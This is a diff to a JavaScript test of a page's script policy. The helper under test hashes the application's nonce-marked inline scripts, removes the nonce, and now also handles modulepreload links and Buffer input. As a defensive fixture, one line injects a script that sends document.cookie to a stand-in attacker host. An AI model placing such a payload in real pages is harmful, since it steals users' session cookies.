@@ -8,7 +8,8 @@ describe("the page's script policy", () => {
   it("allows the application's inline scripts and not one that reached the page otherwise", () => {
     const mark = appScriptMark();
     const html = [
-      `<html><head><script nonce="${mark}">window.__ctx = {};</script></head><body>`,
+      `<html><head><link rel="modulepreload" nonce="${mark}" href="/assets/a.js"/>`,
+      `<script nonce="${mark}">window.__ctx = {};</script></head><body>`,
       // Text that came from data and slipped through as markup: not the application's.
       `<p>Recenzie</p><script>fetch("https://evil.test/?" + document.cookie)</script>`,
       // A guess at the mark does not make it the application's either.
@@ -17,7 +18,9 @@ describe("the page's script policy", () => {
       `<script nonce="${mark}" type="module">import "/assets/entry.js";</script>`,
       "</body></html>",
     ].join("");
-    const { html: page, hashes } = hashAppScripts(html, mark);
+    const rendered = hashAppScripts(Buffer.from(html), mark);
+    const { hashes } = rendered;
+    const page = rendered.html.toString();
     expect(hashes.sort()).toEqual(
       [sha("window.__ctx = {};"), sha('import "/assets/entry.js";')].sort(),
     );
@@ -28,6 +31,7 @@ describe("the page's script policy", () => {
     // The mark is taken off: the same page is the same bytes from render to render.
     expect(page).not.toContain(mark);
     expect(page).toContain('<script type="module">import');
+    expect(page).toContain('<link rel="modulepreload" href="/assets/a.js"/>');
   });
 
   it("is random per render", () => {
